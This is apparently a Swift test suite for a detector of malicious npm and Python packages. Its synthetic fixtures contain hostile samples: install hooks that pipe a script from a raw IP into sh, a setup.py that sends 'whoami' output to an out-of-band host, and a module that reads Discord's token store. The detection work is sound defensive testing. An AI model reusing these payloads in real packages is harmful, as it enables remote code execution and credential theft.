import Foundation
import LockgateCore
import Testing

@testable import Analysis

/// The package analyser with the real JavaScript and Python analysers, on small synthetic packages, and over a
/// sample of the labelled corpus (read in memory through the files the archive tests already check; skipped when
/// ../shared is absent).
@Suite struct PackageEndToEndTests {
    @Test func npmInstallScriptPayloadIsInstallContext() {
        let files = PackageFixture.files([
            (
                "package/package.json",
                #"{"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "node index.js"}}"#
            ),
            (
                "package/index.js",
                """
                const { exec } = require('child_process');
                const os = require('os');
                exec('curl -s http://45.9.1.2/p.sh | sh');
                """
            ),
        ])
        let analysis = PackageAnalyzer().analyse(files: files, ecosystem: nil)
        let install = analysis.sequence.behaviours.filter { $0.context == .install }.map(\.kind)
        #expect(install.first == .installHook)
        #expect(install.contains(.spawnProcess))
        #expect(install.contains(.urlRawIP))
        #expect(analysis.sequence.tokenStrings.first == "start:install")
    }

    @Test func aStealerAnotherModuleCallsAtLoadIsRuntimeAndAnExportedFunctionWaits() {
        // TypeScript's output: the entry calls the stealer of another module at load; the module's exported
        // `module.exports = function` of a third file is only called by the package's user.
        let files = PackageFixture.files([
            ("package/package.json", #"{"name": "chat-lib", "version": "1.0.0", "main": "build/index.js"}"#),
            (
                "package/build/index.js",
                """
                "use strict";
                var __importDefault = (this && this.__importDefault) || function (mod) { return mod; };
                const stealer_1 = __importDefault(require("./stealer"));
                const api = require('./api');
                (0, stealer_1.default)();
                """
            ),
            (
                "package/build/stealer.js",
                """
                const fs = require('fs');
                const os = require('os');
                function steal() { return fs.readFileSync(os.homedir() + '/.config/discord/Local Storage/leveldb'); }
                exports.default = steal;
                """
            ),
            (
                "package/build/api.js",
                "const cp = require('child_process');\nmodule.exports = function (c) { cp.exec(c); };"
            ),
        ])
        let behaviours = PackageAnalyzer().analyse(files: files, ecosystem: nil).sequence.behaviours
        let discord = behaviours.filter { $0.kind == .readDiscordStore }
        #expect(!discord.isEmpty && discord.allSatisfy { $0.context == .runtime })
        let spawns = behaviours.filter { $0.kind == .spawnProcess }
        #expect(spawns.count == 1 && spawns.allSatisfy { $0.context == .deferred })
    }

    @Test func aModuleImportedByItsBareNameBesideTheImporterRunsAtLoad() {
        // `from frequest import get` in `__init__.py` next to `frequest.py` (Python 2's implicit relative import,
        // a script's own folder in Python 3); a standard-library name (`json`) never reads as the file beside it.
        let files = PackageFixture.files([
            ("req7-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: req7\nVersion: 1.0\n"),
            ("req7-1.0/req7/__init__.py", "from frequest import get\nimport json\nget('https://example.com')\n"),
            (
                "req7-1.0/req7/frequest.py",
                "import os\ndef get(url):\n    os.system('curl -s http://45.9.1.2/x | sh')\n"
            ),
            ("req7-1.0/req7/json.py", "import os\ndef dumps(x):\n    os.system('id')\n"),
        ])
        let behaviours = PackageAnalyzer().analyse(files: files, ecosystem: nil).sequence.behaviours
        let download = behaviours.filter { $0.kind == .downloadExecute }
        #expect(download.map(\.path) == ["req7-1.0/req7/frequest.py"])
        #expect(download.allSatisfy { $0.context == .runtime })
        let local = behaviours.filter { $0.path == "req7-1.0/req7/json.py" }
        #expect(!local.isEmpty && local.allSatisfy { $0.context == .deferred })
    }

    @Test func setupPyCmdclassPayloadIsInstallContext() {
        let setup = """
            import os
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    os.system("curl https://abc.oast.fun/$(whoami)")
                    install.run(self)

            setup(name="evil", version="1.0", cmdclass={"install": PostInstall})
            """
        let files = PackageFixture.files([
            ("evil-1.0/PKG-INFO", "Name: evil\nVersion: 1.0\n"), ("evil-1.0/setup.py", setup),
            ("evil-1.0/evil/__init__.py", "import requests\n"),
        ])
        let analysis = PackageAnalyzer().analyse(files: files, ecosystem: nil)
        let install = analysis.sequence.behaviours.filter { $0.context == .install }
        #expect(install.filter { $0.kind == .installHook }.map(\.line) == [10, 5])
        #expect(install.contains { $0.kind == .spawnProcess && $0.line == 7 })
        #expect(install.contains { $0.kind == .urlOutOfBand })
        #expect(analysis.sequence.behaviours.contains { $0.kind == .importNetworkModule && $0.context == .runtime })
    }

    @Test(.enabled(if: CorpusSample.isPresent, "../shared/corpus is absent (only the project's machine has it)"))
    func corpusSampleAnalysesWithoutTrouble() throws {
        let sample = try CorpusSample.archives(every: 40)
        var analysed = 0
        for (url, ecosystem) in sample {
            guard let files = CorpusSample.files(url) else { continue }
            let analysis = PackageAnalyzer().analyse(files: files, ecosystem: ecosystem)
            #expect(analysis.sequence.features.fileCount == files.count)
            var depth = 0
            for token in analysis.sequence.tokens {
                if case .entryStart = token { depth += 1 }
                if case .entryEnd = token { depth -= 1 }
                #expect(depth == 0 || depth == 1)
            }
            analysed += 1
        }
        #expect(analysed >= sample.count - 1)
    }
}
